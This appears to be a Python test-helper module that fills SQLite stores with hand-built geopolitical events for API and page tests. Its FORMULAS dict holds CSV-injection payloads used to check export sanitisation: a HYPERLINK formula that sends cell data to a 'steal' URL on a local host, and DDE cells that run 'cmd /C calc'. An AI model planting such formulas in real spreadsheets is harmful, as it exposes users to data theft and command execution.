"""Stores filled with events built by hand: known actors, types, dates and places, exact offsets.

The API and page tests need stores whose contents they know exactly, without the spaCy
pipeline; ``fill_store`` writes documents whose sentences are made from the pieces below,
so every span (trigger, source, target, date, place) points at the right characters.
"""

from __future__ import annotations

import random
import socket
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, replace
from datetime import date, timedelta
from pathlib import Path

from eventwire.records import Actor, Entity, Event, EventDate, Extraction, Location, Place, Span, Timex
from eventwire.store import SQLiteStore

#: (name, code, country, sector)
ACTORS = [
    ("Antony Blinken", "USAGOV", "USA", "GOV"),
    ("South Korea", "KOR", "KOR", None),
    ("North Korea", "PRK", "PRK", None),
    ("Russian forces", "RUSMIL", "RUS", "MIL"),
    ("Ukraine", "UKR", "UKR", None),
    ("the United Nations", "IGOUNO", None, None),
    ("Israel", "ISR", "ISR", None),
]
#: (verb, PLOVER type, goldstein)
VERBS = [
    ("met", "CONSULT", 2.5),
    ("sent aid to", "AID", 10.0),
    ("attacked", "ASSAULT", -9.0),
    ("accused", "ACCUSE", -3.0),
    ("threatened", "THREATEN", -3.5),
    ("agreed with", "AGREE", 2.5),
]
#: (name, lat, lon, ISO3)
PLACES = [
    ("Seoul", 37.566, 126.978, "KOR"),
    ("Kyiv", 50.45, 30.524, "UKR"),
    ("Washington", 38.895, -77.036, "USA"),
    ("Geneva", 46.202, 6.146, "CHE"),
]


@dataclass(frozen=True)
class Planned:
    """One event to write: indexes into ACTORS, VERBS and PLACES, and its day."""

    source: int
    verb: int
    target: int
    place: int
    day: date
    status: str = "asserted"


def _actor(index: int, start: int) -> Actor:
    name, code, country, sector = ACTORS[index]
    return Actor(text=name, code=code, country=country, sector=sector, canonical=name,
                 start=start, end=start + len(name))


def extraction(doc_id: str, planned: list[Planned], *, title: str | None = None,
               relevance: float | None = None, url: str | None = None) -> Extraction:
    """A document whose sentences state the planned events, with every record's offsets."""
    text = ""
    events, entities, timexes, places = [], [], [], []
    for p in planned:
        if text:
            text += " "
        start = len(text)
        src, (verb, kind, score), tgt = ACTORS[p.source][0], VERBS[p.verb], ACTORS[p.target][0]
        place_name, lat, lon, country = PLACES[p.place]
        when = p.day.strftime("%B %-d, %Y")
        sentence = f"{src} {verb} {tgt} in {place_name} on {when}."
        text += sentence
        s_src = start
        s_trig = s_src + len(src) + 1
        s_tgt = s_trig + len(verb) + 1
        s_place = s_tgt + len(tgt) + 4
        s_when = s_place + len(place_name) + 4
        source, target = _actor(p.source, s_src), _actor(p.target, s_tgt)
        for actor in (source, target):
            entities.append(Entity(text=actor.text, label="GPE", start=actor.start or 0, end=actor.end or 0,
                                   canonical=actor.canonical, code=actor.code, country=actor.country))
        timexes.append(Timex(text=when, start=s_when, end=s_when + len(when), type="DATE", value=p.day.isoformat()))
        places.append(Place(text=place_name, start=s_place, end=s_place + len(place_name), name=place_name,
                            geonameid=None, lat=lat, lon=lon, country=country, feature="P"))
        events.append(Event(
            type=kind, mode=None, cameo=None, source=source, target=target,
            date=EventDate(value=p.day.isoformat(), granularity="day"),
            location=Location(name=place_name, geonameid=None, lat=lat, lon=lon, country=country),
            status=p.status, attributed_to=None,
            trigger=Span(text=verb.split()[0], start=s_trig, end=s_trig + len(verb.split()[0])),
            sentence=Span(text=sentence, start=start, end=start + len(sentence)),
            confidence=0.9, goldstein=score, quad=2 if score > 0 else 4,
        ))
    return Extraction(id=doc_id, date=planned[0].day.isoformat() if planned else None, title=title or doc_id,
                      source="Test Wire", url=url, text=text, entities=entities, timexes=timexes, places=places,
                      events=events, relevance=relevance, origin=f"{doc_id}.txt")


def fill_store(path: Path, plan: dict[str, list[Planned]], *, relevance: dict[str, float] | None = None,
               urls: dict[str, str] | None = None) -> Path:
    """Write each document of ``plan`` (id -> its events) into a SQLite store at ``path``.

    ``relevance`` gives documents their relevance (id -> score), ``urls`` their url, written
    straight into the store as an older store may hold it (ingest keeps only http(s) URLs);
    the others have none.
    """
    with SQLiteStore(path) as store:
        for doc_id, planned in plan.items():
            store.add(extraction(doc_id, planned, title=f"Report {doc_id}", relevance=(relevance or {}).get(doc_id),
                                 url=(urls or {}).get(doc_id)))
    return path


#: Cells a spreadsheet would run as formulas (OWASP's CSV injection examples), by where they go in an event.
FORMULAS = {
    "title": '=HYPERLINK("http://127.0.0.1:9/steal?"&A1,"Click")',
    "source": "@SUM(1+1)*cmd|' /C calc'!A0",
    "sentence": "-2+3+cmd|' /C calc'!A0",
    "trigger": "+attacked",
    "actor": "=1+1",
    "place": "\tGeneva",
    "mode": "\r=1+1",
}


def formula_extraction(doc_id: str, planned: list[Planned]) -> Extraction:
    """``extraction`` with ``FORMULAS`` for its title, source, sentences, triggers, source actors, places and modes."""
    base = extraction(doc_id, planned)
    events = [replace(e, mode=FORMULAS["mode"], sentence=replace(e.sentence, text=FORMULAS["sentence"]),
                      trigger=replace(e.trigger, text=FORMULAS["trigger"]),
                      source=replace(e.source, text=FORMULAS["actor"], code=None) if e.source else None,
                      location=replace(e.location, name=FORMULAS["place"]) if e.location else None)
              for e in base.events]
    return replace(base, title=FORMULAS["title"], source=FORMULAS["source"], events=events)


def random_plan(documents: int, per_document: int, *, seed: int = 7, start: date = date(2023, 10, 1),
                days: int = 60) -> dict[str, list[Planned]]:
    """A reproducible plan of many events over ``days`` days, for paging and load tests."""
    rng = random.Random(seed)
    plan = {}
    for n in range(documents):
        planned = []
        for _ in range(per_document):
            source = rng.randrange(len(ACTORS))
            target = (source + 1 + rng.randrange(len(ACTORS) - 1)) % len(ACTORS)
            planned.append(Planned(source, rng.randrange(len(VERBS)), target, rng.randrange(len(PLACES)),
                                   start + timedelta(days=rng.randrange(days))))
        plan[f"doc{n:05d}"] = planned
    return plan


@contextmanager
def running(app: object) -> Iterator[str]:
    """Serve ``app`` with uvicorn on a free port of 127.0.0.1 in a thread; yield its base URL."""
    import uvicorn

    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port, log_level="warning"))  # type: ignore[arg-type]
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 20
    while not server.started:
        if time.monotonic() > deadline or not thread.is_alive():
            raise RuntimeError("uvicorn did not start")
        time.sleep(0.02)
    try:
        yield f"http://127.0.0.1:{port}"
    finally:
        server.should_exit = True
        thread.join(timeout=10)
